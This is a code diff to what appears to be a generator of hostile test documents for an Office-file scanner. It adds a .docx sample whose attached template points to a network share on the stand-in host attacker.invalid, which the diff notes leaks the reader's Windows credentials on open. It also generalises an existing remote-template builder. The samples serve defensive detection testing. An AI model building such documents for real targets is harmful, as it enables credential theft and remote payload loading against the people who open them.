@@ -126,14 +126,24 @@ def macro_renamed() -> bytes:
     )
 
 
-def remote_template() -> bytes:
+def template(target: str) -> bytes:
+    """A document based on the template at ``target`` (Word fetches it when the file opens)."""
     rels = (
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
-        'Target="http://attacker.invalid/template.dotm" TargetMode="External"/></Relationships>'
+        f'Target="{target}" TargetMode="External"/></Relationships>'
     )
     return rewrite(plain_docx(), add={"word/_rels/settings.xml.rels": rels.encode()})
+
+
+def remote_template() -> bytes:
+    return template("http://attacker.invalid/template.dotm")
+
+
+def share_template() -> bytes:
+    """A template on a network share: opening the file sends the reader's Windows credentials there."""
+    return template("\\\\attacker.invalid\\share\\template.dotm")
 
 
 def external_picture() -> bytes:
@@ -472,6 +482,7 @@ SAMPLES = [
     Sample("macro under another name", macro_renamed, "docx", MACROS),
     Sample("ActiveX control", activex, "docx", MACROS),
     Sample("remote template", remote_template, "docx", errors.EXTERNAL_LINK),
+    Sample("template on a network share", share_template, "docx", errors.EXTERNAL_LINK),
     Sample("picture from another computer", external_picture, "docx", errors.EXTERNAL_LINK),
     Sample("DDE field", dde_field, "docx", errors.EXTERNAL_LINK),
     Sample("linked workbook", linked_workbook, "xlsx", errors.EXTERNAL_LINK),
